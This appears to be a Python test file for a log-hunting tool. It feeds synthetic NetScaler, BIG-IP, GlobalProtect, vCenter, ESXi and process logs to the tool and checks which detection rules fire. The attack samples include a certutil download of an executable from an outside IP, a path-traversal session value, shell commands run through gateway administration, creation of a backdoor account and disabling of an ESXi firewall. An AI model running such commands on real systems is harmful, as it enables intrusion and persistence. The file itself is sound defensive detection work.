"""Logs of gateways, hypervisors and collectors, in their own forms: who is found in them, and that ordinary use is silent."""
import json

from _breakwater import Checks, Sandbox

checks = Checks()

NS = "Jul 19 10:0{}:01 <local0.notice> 10.0.0.2  07/19/2023:10:0{}:01 GMT ns1 0-PPE-0 : default {} {} 78{} 0 :  {}\n"
COMMAND = 'User nsroot - ADM_User NONE - Remote_ip {} - Command "{}" - Status "{}"'
AUDIT = "Jul 19 10:00:0{} bigip1 notice {}[12]: 0142000{}:5: AUDIT - {}\n"
DONE = "pid=1 user=admin folder=/Common module=(tmos)# status=[Command OK] cmd_data="
REST = '[I][{}][19 Jul 2023 10:0{}:00 UTC][ForwarderPassThroughWorker] {{"user":"local/admin","method":"{}","uri":"http://localhost:8100/mgmt/tm/{}","status":{},"from":"203.0.113.9"}}\n'
GPSVC = '{{"level":"error","task":"12-22","time":"2024-04-16T12:3{}:51-07:00","message":"failed to unmarshal session({}) map , EOF"}}\n'
SSO = '2023-07-19T10:00:0{}.123Z {{"user":"VSPHERE.LOCAL\\\\Administrator","client":"{}","timestamp":"07/19/2023 10:00:00 GMT","description":"x","eventSeverity":"INFO","type":"com.vmware.sso.LoginSuccess"}}\n'
PROCESS = '{{"Pid":{},"Ppid":1,"TokenIsElevated":false,"Name":"x","CommandLine":"{}","Exe":"{}","Username":"{}"}}\n'

INTERNET = "Administration of a device reached from the Internet"
ACCOUNT = "Account made on a gateway by command"
SHELL = "Shell command run through the administration of a gateway"

# what: (a file's name, the lines of an attack, lines of ordinary use, rules that must match, and nothing else)
CASES = {
    "NetScaler's log": ("ns.log", [
        NS.format(1, 1, "GUI", "CMD_EXECUTED", 1, COMMAND.format("203.0.113.9", 'login nsroot \\"***********\\"', "Success")),
        NS.format(2, 2, "GUI", "CMD_EXECUTED", 2, COMMAND.format("203.0.113.9", "add system user svc ***********", "Success")),
        NS.format(3, 3, "CLI", "CMD_EXECUTED", 3, COMMAND.format("203.0.113.9", "shell id", "Success"))], [
        NS.format(4, 4, "GUI", "CMD_EXECUTED", 4, COMMAND.format("10.0.0.9", 'login nsroot \\"***********\\"', "Success")),
        NS.format(5, 5, "CLI", "CMD_EXECUTED", 5, COMMAND.format("10.0.0.9", "show ns license", "Success")),
        NS.format(6, 6, "GUI", "CMD_EXECUTED", 6, COMMAND.format("203.0.113.9", 'login nsroot \\"***********\\"', "ERROR: Invalid username or password"))],
        {INTERNET, ACCOUNT, SHELL}),
    "NetScaler's bash.log": ("bash.log", [
        'Jul 19 10:04:10 <local7.notice> ns1 bash[15]: nobody on (null) shell_command="uname -a"\n'], [
        'Jul 19 10:04:11 <local7.notice> ns1 bash[16]: nsroot on /dev/pts/0 shell_command="uname -a"\n',
        'Jul 19 10:04:12 <local7.notice> ns1 sh[17]: root on (null) shell_command="/netscaler/nsconmsg -K x"\n'],
        {"Account of a gateway's web server runs a shell command"}),
    "BIG-IP's audit log": ("audit", [
        AUDIT.format(1, "icrd_child", 2, DONE + "run util bash -c id"),
        AUDIT.format(2, "tmsh", 2, DONE + "create auth user svc password **** shell bash"),
        'Jul 19 10:00:03 bigip1 notice httpd[9]: 01070417:5: AUDIT - user admin - RAW: httpd(mod_auth_pam): user=admin(admin) partition=[All] '
        'level=Administrator tty=(unknown) host=203.0.113.9 attempts=1 start="Wed Jul 19 10:00:03 2023".\n'], [
        AUDIT.format(4, "tmsh", 2, DONE + "run util bash"), AUDIT.format(5, "tmsh", 2, DONE + "list auth user svc")],
        {INTERNET, ACCOUNT, SHELL}),
    "BIG-IP's restjavad": ("restjavad-audit.0.log", [REST.format(1, 1, "POST", "util/bash", 200)], [
        REST.format(2, 2, "GET", "sys/version", 200), REST.format(3, 3, "POST", "util/bash", 401)], {SHELL}),
    "GlobalProtect's service": ("gpsvc.log", [GPSVC.format(1, "/../../../opt/panlogs/tmp/x")], [
        GPSVC.format(2, "01234567-89ab-cdef-1234-567890abcdef"), GPSVC.format(3, "")],
        {"Session of GlobalProtect that is a path or a command"}),
    "single sign-on of vCenter": ("audit_events.log", [SSO.format(1, "203.0.113.9, 10.0.0.2")], [SSO.format(2, "10.0.0.5, 203.0.113.9")], {INTERNET}),
    "ESXi": ("shell.log", ["2022-07-19T10:00:05.123Z In(14) shell[2102]: [root]: esxcli network firewall set --enabled false\n"], [
        "2022-07-19T10:00:06.123Z In(14) shell[2102]: [root]: esxcli network firewall get\n"], {"Protection of an ESXi host lowered by command"}),
    "processes by Velociraptor": ("pslist.json", [
        PROCESS.format(1, "certutil -urlcache -f http://203.0.113.9/a C:\\\\ProgramData\\\\a.exe", "C:\\\\Windows\\\\System32\\\\certutil.exe", "SITE\\\\bob")], [
        PROCESS.format(2, "C:\\\\Windows\\\\System32\\\\svchost.exe -k netsvcs", "C:\\\\Windows\\\\System32\\\\svchost.exe", "NT AUTHORITY\\\\SYSTEM"),
        PROCESS.format(3, "/usr/sbin/nginx -g daemon", "/usr/sbin/nginx", "www-data")], {"System tool downloads a file from the Internet"}),
}


def names(run):
    return {json.loads(line)["rule"]["name"] for line in run.out.splitlines()}


def main():
    sandbox = Sandbox()
    for what, (name, attack, ordinary, want) in CASES.items():
        sandbox.file("all/" + name, "".join(ordinary + attack).encode())
        sandbox.file("ordinary/" + name, "".join(ordinary).encode())
        found = sandbox.run("hunt", "all/" + name, "-q", "--json")
        checks.check(f"{what}: what is found", names(found) == want, found)
        silent = sandbox.run("hunt", "ordinary/" + name, "-q", "--json")
        checks.check(f"{what}: ordinary use is silent", silent.code == 0 and silent.out == b"", silent)
    sandbox.file("login.log", NS.format(1, 1, "SSLVPN", "LOGIN", 1, 'Context alice@198.51.100.7 - SessionId: 12- User alice - Client_ip 198.51.100.7 - Vserver 203.0.113.2:443').encode())
    logons = sandbox.run("logons", "login.log", "--json")
    checks.check("a login of NetScaler Gateway has its user", b"alice" in logons.out, logons)
    checks.exit()


main()
